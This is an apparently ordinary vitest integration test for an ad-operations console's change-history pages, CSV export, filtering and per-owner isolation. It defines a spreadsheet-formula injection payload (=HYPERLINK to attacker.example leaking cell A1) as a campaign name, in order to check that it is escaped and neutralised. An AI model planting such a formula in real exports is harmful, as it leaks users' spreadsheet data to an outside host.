import { randomUUID } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { newId } from '../../src/ids.ts';
import { DEFAULT_LIMITS } from '../../src/key-limits.ts';
import { addAccount } from '../../src/owners/add-account.ts';
import { issueKey } from '../../src/owners/create-key.ts';
import { insertAuditEntries } from '../../src/storage/audit.ts';
import type { AuditEntry } from '../../src/storage/schema.ts';
import { findUserByEmail } from '../../src/storage/users.ts';
import { TestClock } from '../support/clock.ts';
import { TEST_DIALECTS } from '../support/dialects.ts';
import { TestService } from '../support/service.ts';
import { ConsoleClient, callTool, csrfTokenOf, PASSWORD, uniqueEmail } from './support/console-client.ts';

const HOSTILE_NAME = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click me")';
const IDEMPOTENCY_KEY = randomUUID();

/** A CSV as RFC 4180 has it: quoted cells with doubled quotes, CRLF between records. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const char = text[i];
    if (quoted) {
      if (char === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (char === '"') quoted = false;
      else cell += char;
    } else if (char === '"') quoted = true;
    else if (char === ',') {
      record.push(cell);
      cell = '';
    } else if (char === '\r' && text[i + 1] === '\n') {
      record.push(cell);
      records.push(record);
      record = [];
      cell = '';
      i++;
    } else cell += char;
  }
  expect(cell, 'the last record ends with CRLF').toBe('');
  return records;
}

/** The CSV's records as objects by the header's names. */
function csvObjects(text: string): Array<Record<string, string>> {
  const [header = [], ...rows] = parseCsv(text);
  for (const row of rows) expect(row).toHaveLength(header.length);
  return rows.map((row) => Object.fromEntries(header.map((name, i) => [name, row[i] ?? ''])));
}

/** The ids of the changes a list page links to, in its order. */
function listedIds(page: string): string[] {
  const table = page.split('<tbody>')[1]?.split('</tbody>')[0] ?? '';
  return [...table.matchAll(/href="\/activity\/(aud_[0-9a-f]+)"/g)].map((match) => match[1] ?? '');
}

function olderLink(page: string): string | undefined {
  const href = /<a href="([^"]+)" rel="next">Older →<\/a>/.exec(page)?.[1];
  return href?.replaceAll('&amp;', '&');
}

describe.each(TEST_DIALECTS)('console activity (change history) on %s', (dialect) => {
  const clock = new TestClock('2026-11-20T09:00:00.000Z');
  let service: TestService;
  let client: ConsoleClient;
  let email: string;
  let nightKeyId: string;
  let searchAccount: string;
  let socialAccount: string;
  /** The audit ids of the owner's three changes, by what they are. */
  const ids = { pause: '', rename: '', refused: '' };
  let pauseRequestId: string;
  let strangerChange: string;

  async function auditIdOf(requestId: string): Promise<string> {
    return (await service.auditRow(requestId)).id;
  }

  beforeAll(async () => {
    service = await TestService.start(dialect, { clock, env: { ADOPS_SESSION_HOURS: '168' } });
    client = new ConsoleClient(service.url);
    email = uniqueEmail('activity');
    await client.signUp(email, PASSWORD);
    const { db } = service.services.storage;
    const user = await findUserByEmail(db, email);
    if (!user) throw new Error('sign-up made no owner');
    searchAccount = (await addAccount(service.services, user, { platform: 'search' })).account_id;
    socialAccount = (await addAccount(service.services, user, { platform: 'social' })).account_id;
    const now = clock.now();
    const night = await issueKey(db, user, 'night agent', 'never', now, {
      ...DEFAULT_LIMITS,
      scope: 'spend',
    });
    nightKeyId = night.id;
    const day = await issueKey(db, user, 'day agent', 'never', now, { ...DEFAULT_LIMITS, scope: 'write' });

    // 2026-11-20: the night agent pauses a running Google Ads campaign, with an Idempotency-Key.
    const campaigns = await callTool(service.url, night.key, 'list_search_campaigns');
    const running = campaigns.body.data.structured.campaigns.find((c: any) => c.status === 'ACTIVE');
    const dryRun = await callTool(service.url, night.key, 'update_search_campaign', {
      campaign_id: running.campaign_id,
      status: 'PAUSED',
      dry_run: true,
    });
    expect(dryRun.status).toBe(200);
    const pause = await service.call(
      'update_search_campaign',
      { campaign_id: running.campaign_id, status: 'PAUSED' },
      { key: night.key, headers: { 'idempotency-key': IDEMPOTENCY_KEY } },
    );
    expect(pause.status, JSON.stringify(pause.body)).toBe(200);
    pauseRequestId = pause.body.request_id;
    ids.pause = await auditIdOf(pauseRequestId);
    // Its replay changes nothing: not a change of its own.
    const replay = await service.call(
      'update_search_campaign',
      { campaign_id: running.campaign_id, status: 'PAUSED' },
      { key: night.key, headers: { 'idempotency-key': IDEMPOTENCY_KEY } },
    );
    expect([replay.status, replay.body.request_id]).toEqual([200, pauseRequestId]);

    // 2026-11-21: the day agent renames a Meta campaign to a formula, then may not enable the paused one.
    clock.set('2026-11-21T15:30:00.000Z');
    const social = await callTool(service.url, day.key, 'list_social_campaigns');
    const metaCampaign = social.body.data.structured.campaigns[0];
    const rename = await callTool(service.url, day.key, 'update_social_campaign', {
      campaign_id: metaCampaign.campaign_id ?? metaCampaign.id,
      name: HOSTILE_NAME,
    });
    expect(rename.status, JSON.stringify(rename.body)).toBe(200);
    ids.rename = await auditIdOf(rename.body.request_id);
    clock.advanceSeconds(60);
    const refused = await callTool(service.url, day.key, 'update_search_campaign', {
      campaign_id: running.campaign_id,
      status: 'ENABLED',
    });
    expect(refused.status).toBe(403);
    ids.refused = await auditIdOf(refused.body.request_id);

    // 2026-11-22: someone else's change, which this owner must never see.
    clock.set('2026-11-22T08:00:00.000Z');
    const stranger = await service.createOwner('free', ['search']);
    const theirs = await callTool(service.url, stranger.key, 'list_search_campaigns');
    const strangerCampaign = theirs.body.data.structured.campaigns.find((c: any) => c.status === 'ACTIVE');
    const strangerPause = await callTool(service.url, stranger.key, 'update_search_campaign', {
      campaign_id: strangerCampaign.campaign_id,
      status: 'PAUSED',
    });
    expect(strangerPause.status).toBe(200);
    strangerChange = await auditIdOf(strangerPause.body.request_id);
    await service.services.audit.flush();
  });
  afterAll(() => service.stop());

  it('lists every change, newest first, and leaves out reads, dry runs and replays', async () => {
    const page = await client.get('/activity');
    expect(page.status).toBe(200);
    expect(listedIds(page.text)).toEqual([ids.refused, ids.rename, ids.pause]);
    expect(page.text).toContain('key night agent');
    expect(page.text).toContain('key day agent');
    expect(page.text).toContain('status: ACTIVE → PAUSED');
    expect(page.text).toContain('<code>insufficient_<wbr>scope</code>');
    expect(page.text).toMatch(
      /<td data-label="Outcome"><div class="value"><span class="badge badge-danger">failed<\/span> <span class="muted">403<\/span>/,
    );
    // Escaped in HTML, never markup.
    expect(page.text).toContain('name: ');
    expect(page.text).toContain('=HYPERLINK(&quot;http://attacker.example/?leak=&quot;&amp;A1');
    expect(page.text).not.toContain(strangerChange);
  });

  it('shows a change in full: who, before → after, request id and Idempotency-Key', async () => {
    const page = await client.get(`/activity/${ids.pause}`);
    expect(page.status).toBe(200);
    expect(page.text).toContain('<dt>Who</dt><dd>key night agent</dd>');
    expect(page.text).toContain('<dt>Tool</dt><dd><code>update_search_campaign</code></dd>');
    expect(page.text).toContain('Google Ads (search)');
    expect(page.text).toContain(`<code class="id">${searchAccount}</code>`);
    expect(page.text).toContain(`<code>${pauseRequestId}</code>`);
    expect(page.text).toContain(`<dt>Idempotency-Key</dt><dd><code>${IDEMPOTENCY_KEY}</code></dd>`);
    expect(page.text).toMatch(
      /<tr class="changed"><th scope="row"><span title="status">Status<\/span><\/th><td>ACTIVE<\/td><td><strong>PAUSED<\/strong>/,
    );
    expect(page.text).toMatch(/<dt>Outcome<\/dt><dd><span class="badge badge-ok">succeeded<\/span>/);

    const refused = await client.get(`/activity/${ids.refused}`);
    expect(refused.text).toContain('No before and after were noted for this call.');
    expect(refused.text).toContain('status <code>ACTIVE</code>');
    expect(refused.text).toContain('<dt>Idempotency-Key</dt><dd>—</dd>');
  });

  it('narrows by key, platform, account, kind, outcome and dates, keeping each filter in the form', async () => {
    const cases: Array<[string, string[]]> = [
      [`who=key:${nightKeyId}`, [ids.pause]],
      ['who=owner', []],
      ['platform=social', [ids.rename]],
      ['platform=search', [ids.refused, ids.pause]],
      [`account=${socialAccount}`, [ids.rename]],
      [`account=${searchAccount}`, [ids.refused, ids.pause]],
      ['kind=status', [ids.refused, ids.pause]],
      ['kind=other', [ids.rename]],
      ['kind=budget', []],
      ['outcome=failed', [ids.refused]],
      ['outcome=succeeded', [ids.rename, ids.pause]],
      ['from=2026-11-21&to=2026-11-21', [ids.refused, ids.rename]],
      ['to=2026-11-20', [ids.pause]],
      ['from=2026-11-22', []],
      ['platform=search&outcome=succeeded', [ids.pause]],
    ];
    for (const [search, expected] of cases) {
      const page = await client.get(`/activity?${search}`);
      expect(page.status, search).toBe(200);
      expect(listedIds(page.text), search).toEqual(expected);
    }
    const page = await client.get(`/activity?who=key:${nightKeyId}&kind=status&from=2026-11-20`);
    expect(page.text).toContain(`<option value="key:${nightKeyId}" selected>Key night agent</option>`);
    expect(page.text).toContain('<option value="status" selected>');
    expect(page.text).toContain('name="from" value="2026-11-20"');
    // The export link carries the same filters.
    expect(page.text).toContain(
      `href="/activity.csv?who=key%3A${nightKeyId}&amp;kind=status&amp;from=2026-11-20"`,
    );
  });

  it('exports exactly the filtered changes as CSV, hostile cells neutralised', async () => {
    const all = await client.get('/activity.csv');
    expect(all.status).toBe(200);
    expect(all.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(all.headers.get('content-disposition')).toBe(
      'attachment; filename="adops-activity-2026-11-22.csv"',
    );
    const rows = csvObjects(all.text);
    expect(rows.map((row) => row.id)).toEqual([ids.refused, ids.rename, ids.pause]);
    const pause = rows[2];
    expect(pause).toMatchObject({
      who: 'key night agent',
      tool: 'update_search_campaign',
      platform: 'search',
      account: searchAccount,
      changed_fields: 'status',
      before: 'ACTIVE',
      after: 'PAUSED',
      status: '200',
      code: '',
      request_id: pauseRequestId,
      idempotency_key: IDEMPOTENCY_KEY,
    });
    // The new name would run as a formula: it is text, with a leading quote.
    expect(rows[1]?.changed_fields).toBe('name');
    expect(rows[1]?.after).toBe(`'${HOSTILE_NAME}`);
    expect(all.text).toContain(`"'=HYPERLINK(""http://attacker.example/?leak=""&A1,""Click me"")"`);
    expect(rows[0]).toMatchObject({ status: '403', code: 'insufficient_scope' });
    expect(all.text).not.toContain(strangerChange);

    const filtered = csvObjects((await client.get('/activity.csv?platform=search&outcome=succeeded')).text);
    expect(filtered.map((row) => row.id)).toEqual([ids.pause]);
  });

  it("shows no owner another's change: not in the list, not in the CSV, 404 on its page", async () => {
    const other = new ConsoleClient(service.url);
    await other.signUp(uniqueEmail('other'), PASSWORD);
    const list = await other.get('/activity');
    expect(listedIds(list.text)).toEqual([]);
    expect(list.text).not.toContain(ids.pause);
    const csv = csvObjects((await other.get('/activity.csv')).text);
    expect(csv).toEqual([]);
    const page = await other.get(`/activity/${ids.pause}`);
    expect(page.status).toBe(404);
    expect(page.text).toContain('There is no such change.');
    expect(page.text).not.toContain(IDEMPOTENCY_KEY);
    // Nor does another's change serve as a page cursor.
    expect(listedIds((await other.get(`/activity?before=${ids.pause}`)).text)).toEqual([]);
    expect((await client.get(`/activity/${strangerChange}`)).status).toBe(404);
  });

  it('pages through more changes than a page holds, each once, filters kept in the links', async () => {
    const pager = new ConsoleClient(service.url);
    const pagerEmail = uniqueEmail('pages');
    await pager.signUp(pagerEmail, PASSWORD);
    const owner = await findUserByEmail(service.services.storage.db, pagerEmail);
    if (!owner) throw new Error('no owner');
    // 130 changes, many sharing a timestamp, so the id must order them; every other one a pause.
    const entries: AuditEntry[] = Array.from({ length: 130 }, (_, n) => ({
      id: newId('aud'),
      created_at: new Date(Date.UTC(2026, 10, 1, 0, Math.floor(n / 4))).toISOString(),
      request_id: newId('req'),
      user_id: owner.id,
      api_key_id: null,
      tool: 'update_video_campaign',
      account_id: '7000000001',
      status: 200,
      code: null,
      latency_ms: 1,
      billable: 1,
      replayed: 0,
      dry_run: 0,
      details: JSON.stringify(
        n % 2 === 0
          ? { campaign_id: String(n), operation_status: 'DISABLE' }
          : { campaign_id: String(n), budget: 50 },
      ),
    }));
    await insertAuditEntries(service.services.storage.db, entries);

    async function walk(start: string): Promise<string[]> {
      const seen: string[] = [];
      let next: string | undefined = start;
      for (let pages = 0; next && pages < 10; pages++) {
        const page = await pager.get(next);
        expect(page.status).toBe(200);
        seen.push(...listedIds(page.text));
        next = olderLink(page.text);
        if (next)
          expect(next.startsWith(start === '/activity' ? '/activity?before=' : `${start}&before=`)).toBe(
            true,
          );
      }
      return seen;
    }
    const newestFirst = [...entries]
      .sort((a, b) =>
        a.created_at === b.created_at ? (a.id < b.id ? 1 : -1) : a.created_at < b.created_at ? 1 : -1,
      )
      .map((entry) => entry.id);
    expect(await walk('/activity')).toEqual(newestFirst);
    const pauses = newestFirst.filter((id) => entries.findIndex((entry) => entry.id === id) % 2 === 0);
    expect(await walk('/activity?kind=status')).toEqual(pauses);
    expect(csvObjects((await pager.get('/activity.csv?kind=budget')).text)).toHaveLength(65);
  });

  it('links a change kept for approval to its approval, and the approved change to who approved it', async () => {
    const owner = new ConsoleClient(service.url);
    const ownerEmail = uniqueEmail('approver');
    await owner.signUp(ownerEmail, PASSWORD);
    const { db } = service.services.storage;
    const user = await findUserByEmail(db, ownerEmail);
    if (!user) throw new Error('no owner');
    await addAccount(service.services, user, { platform: 'video' });
    const limits = { ...DEFAULT_LIMITS, scope: 'spend' } as const;
    const { key } = await issueKey(db, user, 'budget agent', 'never', clock.now(), limits);
    const listed = await callTool(service.url, key, 'list_video_campaigns');
    const campaign = listed.body.data.structured.campaigns.find(
      (c: any) => c.name === 'Retargeting: site visitors',
    );
    // Ten times its budget: kept for the owner (202), nothing written yet.
    const asked = await callTool(service.url, key, 'update_video_campaign', {
      campaign_id: String(campaign.campaign_id),
      daily_budget: 800,
    });
    expect(asked.status, JSON.stringify(asked.body)).toBe(202);
    const approvalId = asked.body.data.structured.approval.id;
    const waiting = await owner.get('/activity?outcome=waiting');
    const [askedId = ''] = listedIds(waiting.text);
    expect(listedIds(waiting.text)).toHaveLength(1);
    const askedPage = await owner.get(`/activity/${askedId}`);
    expect(askedPage.text).toContain(
      `<a href="/approvals/${approvalId}">${approvalId}</a>: kept for your decision`,
    );

    const approvalPage = await owner.get(`/approvals/${approvalId}`);
    const approved = await owner.post(`/approvals/${approvalId}/approve`, {
      _csrf: csrfTokenOf(approvalPage.text),
    });
    expect(approved.status).toBe(303);
    const applied = await owner.get('/activity?outcome=succeeded');
    const [appliedId = ''] = listedIds(applied.text);
    expect(applied.text).toContain('key budget agent');
    const appliedPage = await owner.get(`/activity/${appliedId}`);
    expect(appliedPage.text).toContain(
      `<a href="/approvals/${approvalId}">${approvalId}</a>, approved by ${ownerEmail}`,
    );
    expect(appliedPage.text).toMatch(
      /<tr class="changed"><th scope="row"><span title="daily_budget">Daily budget<\/span><\/th><td>80\.00<\/td><td><strong>800\.00<\/strong>/,
    );
  });

  it('asks for sign-in and comes back to the history', async () => {
    const visitor = new ConsoleClient(service.url);
    const page = await visitor.get('/activity');
    expect([page.status, page.location]).toEqual([303, '/login?next=%2Factivity']);
    const form = await visitor.get('/login?next=/activity');
    const signedIn = await visitor.post('/login', {
      _csrf: csrfTokenOf(form.text),
      next: '/activity',
      email,
      password: PASSWORD,
    });
    expect(signedIn.location).toBe('/activity');
  });
});
